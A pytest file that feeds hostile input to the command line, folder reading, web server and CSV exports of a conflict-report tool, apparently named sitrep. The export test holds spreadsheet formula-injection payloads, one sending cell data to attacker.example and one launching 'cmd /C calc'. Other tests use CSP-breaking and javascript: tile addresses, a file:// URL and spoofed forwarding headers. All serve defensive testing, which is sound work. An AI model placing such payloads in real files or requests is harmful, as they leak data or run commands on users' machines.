"""Hostile use of the command line, the folders it reads, the web server and the exports.

The companion of test_hostile.py (which fuzzes the parsers): names that look like markup or formulas,
paths that cannot be read or searched, pipes and broken links inside folders, endless standard input,
URLs that do not parse, writes that fail, and requests built to break the server. Each case ends in a
typed error naming what failed, with the other inputs still processed. Permission cases run the
command without the power to read what it may not (as a user other than root would).
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from typer.testing import CliRunner

import sitrep
from helpers import ROOT, free_port, sample_store, serving
from sitrep.cli import app
from sitrep.errors import EncodingError, InputError, SettingsError, TooLarge
from sitrep.present.export import export_incidents
from sitrep.run.watch import ingest_sources, is_url, read_stream
from sitrep.settings import Settings
from sitrep.sources import ingest
from sitrep.sources.fetch import _too_large
from sitrep.store.sqlite import Store
from sitrep.web import create_app

REPORT = """Shelling on the front line

At least six soldiers were killed and 14 injured in shelling near Avdiivka on Tuesday, the army said.
"""
OTHER = """Drone strike in Darfur

Eleven civilians were killed in a drone strike on a market in El Fasher on Friday, residents said.
"""


def run(*args: str, input: str | bytes | None = None):  # noqa: A002 - CliRunner's name
    return CliRunner().invoke(app, list(args), input=input)


def env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT / "src")}


def cli(*args: str, prefix: list[str] | None = None, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """`sitrep ARGS` in a subprocess (optionally behind `prefix`), its output as text."""
    command = [*(prefix or []), sys.executable, "-m", "sitrep.cli", *args]
    return subprocess.run(command, capture_output=True, text=True, env=env(), timeout=timeout)


def without_root_powers() -> list[str]:
    """A command prefix under which file permissions hold for this user: none for a user other than
    root; for root, the capabilities that bypass them dropped (so a folder of mode 000 is unreadable)."""
    if os.geteuid() != 0:
        return []
    prefix = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: file permissions cannot be made to hold")
    probe = subprocess.run([*prefix, "true"], capture_output=True, check=False)
    if probe.returncode != 0:
        pytest.skip(f"running as root and setpriv cannot drop capabilities: {probe.stderr.decode()[:200]}")
    return prefix


@pytest.fixture
def locked(tmp_path: Path) -> Iterator[list[Path]]:
    """Folders to lock (mode 000) for one test; unlocked again so that they can be removed."""
    folders: list[Path] = []
    yield folders
    for folder in folders:
        folder.chmod(0o755)


def lock(folders: list[Path], folder: Path) -> Path:
    folders.append(folder)
    folder.chmod(0o000)
    return folder


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def jsonl(path: Path, articles: list[dict]) -> Path:
    return write(path, "".join(json.dumps(a) + "\n" for a in articles))


# --------------------------------------------------------------------------- 9: names printed literally


def test_names_that_look_like_markup_are_printed_as_they_are(tmp_path):
    folder = tmp_path / "a[/x]"
    write(folder / "[bold]empty.txt", "  \n")
    write(folder / "good.txt", REPORT)
    result = run("extract", str(folder))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1
    assert str(folder / "[bold]empty.txt") in result.stderr
    assert '"doc": "good.txt"' in result.stdout


def test_a_store_path_that_looks_like_markup_is_printed_as_it_is(tmp_path):
    db = tmp_path / "no[/x]folder" / "[bold]s.db"
    done = cli("ingest", str(write(tmp_path / "a.txt", REPORT)), "--db", str(db))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert str(db) in done.stderr


# --------------------------------------------------------------------------- 10: names holding '/'


def test_a_report_named_by_its_url_has_a_page_and_working_links(tmp_path):
    name = "https://news.example.org/2025/05/06/shelling?id=7&lang=en#top"
    db = tmp_path / "urls.db"
    with sitrep.open(db) as bench:
        assert not bench.ingest([jsonl(tmp_path / "in.jsonl", [{"id": name, "text": REPORT}])]).failures
    app_ = create_app(Settings.load(db=str(db)), lambda: Store(db))
    with serving(app_) as base, httpx.Client(base_url=base, timeout=30) as http:
        listing = http.get("/reports").text
        href = f'href="{"/reports/" + quote(name, safe="")}"'
        assert href.replace("&", "&amp;") in listing
        page = http.get("/reports/" + quote(name, safe=""))
        assert page.status_code == 200 and "six soldiers" in page.text
        incident = http.get("/api/incidents").json()[0]["id"]
        linked = http.get(f"/incidents/{incident}").text
        assert ("/reports/" + quote(name, safe="")).replace("&", "&amp;") in linked


# --------------------------------------------------------------------------- 11: CSV formula injection


@pytest.mark.parametrize("fmt, column", [("acled-csv", "source"), ("ucdp-csv", "source_article")])
def test_export_cells_that_a_spreadsheet_would_run_are_kept_as_text(tmp_path, fmt, column):
    names = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    texts = [REPORT, OTHER, REPORT.replace("Avdiivka", "Bakhmut").replace("six", "nine"),
             OTHER.replace("El Fasher", "Nyala").replace("Eleven", "Four")]
    db = tmp_path / "csv.db"
    with sitrep.open(db) as bench:
        articles = [{"id": n, "text": t, "published": f"2025-0{k + 1}-10"} for k, (n, t) in
                    enumerate(zip(names, texts, strict=True))]
        assert not bench.ingest([jsonl(tmp_path / "in.jsonl", articles)]).failures
        out = tmp_path / "out.csv"
        bench.export(fmt, out)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    sources = {row[column] for row in rows}
    assert any(s.startswith("'=HYPERLINK") for s in sources), sources


# --------------------------------------------------------------------------- 12: bounded stdin


class Endless(io.RawIOBase):
    """Standard input that never ends (as /dev/zero or `yes`); fails the test if read without a bound."""

    def __init__(self, chunk: bytes) -> None:
        self.chunk, self.given = chunk, 0

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        assert size is not None and size >= 0, "standard input read without a limit"
        self.given += size
        assert self.given < 50_000_000, "standard input read far past the limit"
        return (self.chunk * (size // len(self.chunk) + 1))[:size]

    def readline(self, size: int = -1) -> bytes:
        return self.read(size)


@pytest.mark.parametrize("chunk", [b"\x00", b"text without end ", b"<p>a page without end "])
def test_standard_input_is_read_within_the_input_limit(chunk):
    settings = Settings.load(max_input_bytes=100_000)
    found = list(read_stream(Endless(chunk), settings))
    assert len(found) == 1 and isinstance(found[0], InputError) and found[0].source == "stdin"


def test_json_lines_on_standard_input_stream_a_line_at_a_time():
    lines = b"".join(json.dumps({"id": f"r{k}", "text": REPORT}).encode() + b"\n" for k in range(3))
    found = list(read_stream(io.BytesIO(lines + b'{"id": "long", "text": "' + b"x" * 300 + b'"}\n'),
                             Settings.load(max_input_bytes=250)))
    assert [getattr(d, "name", None) for d in found[:3]] == ["r0", "r1", "r2"]
    assert isinstance(found[3], TooLarge) and found[3].source == "stdin:4"


# --------------------------------------------------------------------------- 13: URLs that do not parse


def test_urls_with_a_bad_port_or_host_fail_alone(tmp_path):
    good = write(tmp_path / "good.txt", REPORT)
    db = str(tmp_path / "u.db")
    result = run("ingest", "http://127.0.0.1:99999/x", "http://[::1/x", str(good), "--db", db)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1 and "1 added" in result.stderr
    assert "http://127.0.0.1:99999/x" in result.stderr and "http://[::1/x" in result.stderr


# --------------------------------------------------------------------------- 14, 15, 20: permissions


def test_an_unreadable_subfolder_is_an_error_naming_it(tmp_path, locked):
    prefix = without_root_powers()
    write(tmp_path / "in" / "a.txt", REPORT)
    write(tmp_path / "in" / "secret" / "b.txt", OTHER)
    secret = lock(locked, tmp_path / "in" / "secret")
    done = cli("ingest", str(tmp_path / "in"), "--db", str(tmp_path / "p.db"), prefix=prefix)
    assert done.returncode == 1, done.stderr
    assert str(secret) in done.stderr and "cannot read the folder" in done.stderr
    assert "1 added" in done.stderr


def test_a_path_under_an_unsearchable_folder_is_an_error_and_the_rest_is_stored(tmp_path, locked):
    prefix = without_root_powers()
    good = write(tmp_path / "a.txt", REPORT)
    hidden = write(tmp_path / "closed" / "inner" / "b.txt", OTHER)
    lock(locked, tmp_path / "closed")
    done = cli("ingest", str(hidden), str(good), "--db", str(tmp_path / "p.db"), prefix=prefix)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and str(hidden) in done.stderr and "1 added" in done.stderr


@pytest.mark.parametrize("command", ["extract", "incidents", "annotate", "report"])
def test_an_unreadable_folder_argument_is_an_error_and_the_others_are_read(tmp_path, locked, command):
    prefix = without_root_powers()
    good = write(tmp_path / "open" / "a.txt", REPORT)
    write(tmp_path / "shut" / "b.txt", OTHER)
    shut = lock(locked, tmp_path / "shut")
    done = cli(command, str(shut), str(good.parent), "--published", "2025-05-06", prefix=prefix)
    assert done.returncode == 1, done.stderr
    assert str(shut) in done.stderr and "cannot read the folder" in done.stderr
    assert "a.txt" in done.stdout


def test_batch_reports_an_unreadable_subfolder_and_reads_the_rest(tmp_path, locked):
    prefix = without_root_powers()
    jsonl(tmp_path / "in" / "a.jsonl", [{"id": "a", "text": REPORT}])
    jsonl(tmp_path / "in" / "shut" / "b.jsonl", [{"id": "b", "text": OTHER}])
    shut = lock(locked, tmp_path / "in" / "shut")
    done = cli("batch", str(tmp_path / "in"), "--engine", "local", "--output", str(tmp_path / "out"), prefix=prefix)
    assert done.returncode == 1, done.stderr
    assert str(shut) in done.stderr and "1 reports" in done.stderr


# --------------------------------------------------------------------------- 16, 19: exports


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    return sample_store(tmp_path_factory.mktemp("exports") / "e.db")


def test_a_failed_export_leaves_the_file_it_would_replace(store, tmp_path):
    out = write(tmp_path / "incidents.jsonl", "the previous export\n")
    with sitrep.open(store) as bench:
        incidents = bench.incidents()
    assert len(incidents) >= 2
    broken = [*incidents[:1], replace(incidents[1], figures=(object(),))]  # fails while writing
    with pytest.raises(AttributeError):
        export_incidents(broken, "jsonl", out)
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["incidents.jsonl"]  # nothing left behind
    export_incidents(incidents, "jsonl", out)
    assert len(out.read_text(encoding="utf-8").splitlines()) == len(incidents)


@pytest.mark.parametrize("where, says", [
    ("missing/folder/out.csv", "cannot write the file"),
    ("/dev/full", "cannot write the file"),
    (".", "the output is a folder"),
])
def test_export_write_errors_are_clear(store, tmp_path, where, says):
    out = where if where.startswith("/") else str(tmp_path / where)
    result = run("export", "--db", str(store), "--format", "acled-csv", "--output", out)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1 and says in result.stderr and out.rstrip("/.") in result.stderr


def test_batch_into_an_existing_file_is_a_clear_error(tmp_path):
    good = jsonl(tmp_path / "in.jsonl", [{"id": "a", "text": REPORT}])
    taken = write(tmp_path / "out", "not a folder\n")
    result = run("batch", str(good), "--engine", "local", "--output", str(taken))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1 and "not a folder" in result.stderr
    assert taken.read_text(encoding="utf-8") == "not a folder\n"


# --------------------------------------------------------------------------- 17, 18: the web server


@pytest.fixture(scope="module")
def base(store: Path) -> Iterator[str]:
    with serving(create_app(Settings.load(db=str(store)), lambda: Store(store))) as url:
        yield url


@pytest.mark.parametrize("path", ["/", "/api/incidents", "/sitrep.html", "/map", "/api/claims"])
def test_a_nul_in_the_query_is_refused_not_a_server_error(base, path):
    answer = httpx.get(f"{base}{path}?q=a%00b&doc=x%00", timeout=30)
    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize("path", [
    "/api/incidents?limit={n}", "/api/incidents?offset={n}", "/api/claims?limit={n}", "/api/claims?offset={n}",
    "/api/reports?limit={n}", "/api/reports?offset={n}", "/?offset={n}", "/reports?offset={n}",
])
def test_huge_limits_and_offsets_are_refused_not_a_server_error(base, path):
    answer = httpx.get(base + path.format(n=2**63), timeout=30)
    assert answer.status_code == 422, answer.text[:300]


# --------------------------------------------------------------------------- 21: what a folder holds


def test_pipes_broken_links_and_linked_folders_in_a_folder(tmp_path):
    folder = tmp_path / "in"
    write(folder / "a.txt", REPORT)
    write(tmp_path / "elsewhere" / "b.txt", OTHER)
    os.mkfifo(folder / "pipe.txt")
    (folder / "gone.txt").symlink_to(tmp_path / "nothing.txt")
    (folder / "self.txt").symlink_to(folder / "self.txt")
    (folder / "linked").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (folder / "loop").symlink_to(folder, target_is_directory=True)  # read once, not for ever
    alone = run("extract", str(folder / "a.txt"), "--published", "2025-05-06").stdout.count('"doc": "a.txt"')
    result = run("extract", str(folder), "--published", "2025-05-06")
    assert result.exit_code == 1
    assert f"{folder / 'pipe.txt'}: not a regular file" in result.stderr
    assert f"{folder / 'gone.txt'}: a broken symbolic link" in result.stderr
    assert f"{folder / 'self.txt'}: a broken symbolic link" in result.stderr
    docs = [json.loads(line)["doc"] for line in result.stdout.splitlines()]
    assert set(docs) == {"a.txt", "b.txt"} and docs.count("a.txt") == alone > 0


# --------------------------------------------------------------------------- 22: consistent reading


def test_utf16_with_a_byte_order_mark_is_read_as_web_pages_are(tmp_path):
    for encoding in ("utf-16", "utf-16-be", "utf-32"):
        raw = REPORT.encode(encoding)
        if encoding == "utf-16-be":
            raw = b"\xfe\xff" + raw
        path = tmp_path / f"{encoding}.txt"
        path.write_bytes(raw)
        (doc,) = ingest.read_inputs([path], Settings.load())
        assert not isinstance(doc, Exception), doc
        assert "Avdiivka" in doc.text
    lines = tmp_path / "wide.jsonl"
    lines.write_bytes(json.dumps({"id": "w", "text": REPORT}).encode("utf-16"))
    (refused,) = ingest.read_inputs([lines], Settings.load())
    assert isinstance(refused, EncodingError) and "UTF-16" in str(refused)


@pytest.mark.parametrize("raw", [b"Shelling\n\nSix soldiers were killed in caf\xe9 raids.\n",
                                 b'{"id": "x", "text": "Six soldiers were killed in caf\xe9 raids."}\n'])
def test_standard_input_refuses_what_a_file_refuses(tmp_path, raw):
    path = tmp_path / ("in.jsonl" if raw.startswith(b"{") else "in.txt")
    path.write_bytes(raw)
    (from_file,) = ingest.read_inputs([path], Settings.load())
    (from_stdin,) = read_stream(io.BytesIO(raw), Settings.load())
    assert isinstance(from_file, EncodingError) and isinstance(from_stdin, EncodingError)


def test_a_posted_body_refuses_what_a_file_refuses(tmp_path):
    db = tmp_path / "post.db"
    sample_store(db)
    settings = Settings.load(db=str(db), web_allow_writes=True, web_token="a-token-of-twenty-chars")
    body = (json.dumps({"id": "ok", "text": REPORT}) + "\n").encode() + \
        b'{"id": "bad", "text": "Six soldiers were killed in caf\xe9 raids."}\n'
    with serving(create_app(settings, lambda: Store(db))) as url:
        answer = httpx.post(url + "/api/reports", content=body, timeout=60,
                            headers={"Authorization": "Bearer a-token-of-twenty-chars"})
    assert answer.status_code == 200, answer.text
    done = answer.json()
    assert done["added"] == 1 and [f["code"] for f in done["failed"]] == ["encoding"]
    assert "request:2" in done["failed"][0]["message"]


@pytest.mark.parametrize("url, code", [
    ("HTTP://127.0.0.1:9/page", "private_address"), ("Https://localhost:9/page", "private_address"),
    ("file:///etc/hostname", "fetch"), ("ftp://ftp.example.org/report.txt", "fetch"),
])
def test_urls_of_any_case_and_scheme_are_urls(tmp_path, url, code):
    assert is_url(url)
    with sitrep.open(tmp_path / "s.db") as bench:
        done = ingest_sources(bench, [url], announce=False)
    assert [(f.source, f.code) for f in done.ingest.failures] == [(url, code)]


def test_a_bad_published_value_is_warned_about_with_its_file_and_line(tmp_path, caplog):
    path = jsonl(tmp_path / "dates.jsonl", [{"id": "a", "text": REPORT, "published": "2025-05-06"},
                                            {"id": "b", "text": OTHER, "published": "last Tuesday"}])
    with caplog.at_level(logging.WARNING, logger="sitrep.sources.ingest"):
        docs = list(ingest.read_inputs([path], Settings.load()))
    assert all(not isinstance(d, Exception) for d in docs)
    assert any(f"{path}:2" in r.getMessage() and "last Tuesday" in r.getMessage() for r in caplog.records)


OPTION_SETTINGS = {"db", "published", "allow_private", "web_allow_writes", "web_rate_limit", "web_max_body",
                   "web_token"}
"""The settings a command's option (or SITREP_TOKEN) sets; a hint may name these alone."""


def test_hints_name_no_setting_that_no_option_changes(tmp_path):
    small = Settings.load(max_input_bytes=50, max_report_chars=30, max_html_chars=40)
    big = write(tmp_path / "big.txt", REPORT)
    long_line = jsonl(tmp_path / "long.jsonl", [{"id": "a", "text": REPORT}])
    errors = [*ingest.read_inputs([big, long_line], small), _too_large("https://example.org/", "huge", 10)]
    for make in (lambda: ingest.from_text(REPORT, "r", None, settings=small),
                 lambda: ingest.from_html("<p>" + REPORT + "</p>", "r", None, settings=small)):
        try:
            make()
        except TooLarge as err:
            errors.append(err)
    assert len(errors) == 5 and all(isinstance(e, TooLarge) for e in errors), errors
    unsettable = {name for name, _default, _help in Settings.table()} - OPTION_SETTINGS
    for error in errors:
        assert not [name for name in unsettable if name in (error.hint or "")], error


# --------------------------------------------------------------------------- 23: read-only commands


@pytest.mark.parametrize("args", [
    ["export", "--format", "jsonl", "--output", "{tmp}/out.jsonl"], ["report"], ["extract"], ["incidents"],
    ["annotate"], ["sources"], ["serve", "--port", "{port}"],
])
def test_read_only_commands_refuse_a_store_that_does_not_exist(tmp_path, args):
    typo = tmp_path / "conflcit.db"
    done = cli(*[a.format(tmp=tmp_path, port=free_port()) for a in args], "--db", str(typo), timeout=60)
    assert done.returncode == 2, done.stderr
    assert "no store" in done.stderr and str(typo) in done.stderr
    assert not typo.exists() and not (tmp_path / "out.jsonl").exists()


# --------------------------------------------------------------------------- 24: serve


@pytest.fixture
def served(store: Path, request) -> Iterator[str]:
    """`sitrep serve` with a rate limit of 2 a second, and the options the test gives."""
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "sitrep.cli", "serve", "--db", str(store), "--port", str(port), "--rate-limit",
         "2", *request.param], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env())
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert server.poll() is None, server.stderr.read() if server.stderr else ""
            assert time.monotonic() < deadline, "sitrep serve did not start"
            try:
                httpx.get(url + "/static/app.css", timeout=2)
                break
            except httpx.TransportError:
                time.sleep(0.2)
        time.sleep(1.5)  # the probe's tokens come back
        yield url
    finally:
        server.terminate()
        server.wait(30)


def _refused(url: str, requests: int = 20) -> int:
    with httpx.Client(timeout=30) as http:
        answers = [http.get(url + "/static/app.css", headers={"X-Forwarded-For": f"203.0.113.{k}"})
                   for k in range(requests)]
    return sum(1 for a in answers if a.status_code == 429)


@pytest.mark.parametrize("served", [[]], indirect=True)
def test_a_client_cannot_escape_the_rate_limit_by_naming_other_addresses(served):
    assert _refused(served) >= 10


@pytest.mark.parametrize("served", [["--trust-proxy", "127.0.0.1"]], indirect=True)
def test_a_named_proxy_is_believed(served):
    assert _refused(served) == 0


@pytest.mark.parametrize("tiles", [
    "https://tile.example.org/{z}/{x}/{y}.png; script-src *", "https://tile.example.org/{z}/{x}/{y}.png 'unsafe-eval'",
    "javascript:alert(1)//{z}/{x}/{y}", "https://tile.example.org/tile.png",
])
def test_a_tile_address_that_would_change_the_policy_is_refused(store, tiles):
    with pytest.raises(SettingsError):
        create_app(Settings.load(db=str(store)), lambda: Store(store), tiles=tiles)
    done = cli("serve", "--db", str(store), "--port", str(free_port()), "--tiles", tiles, timeout=60)
    assert done.returncode == 2 and "--tiles" in done.stderr
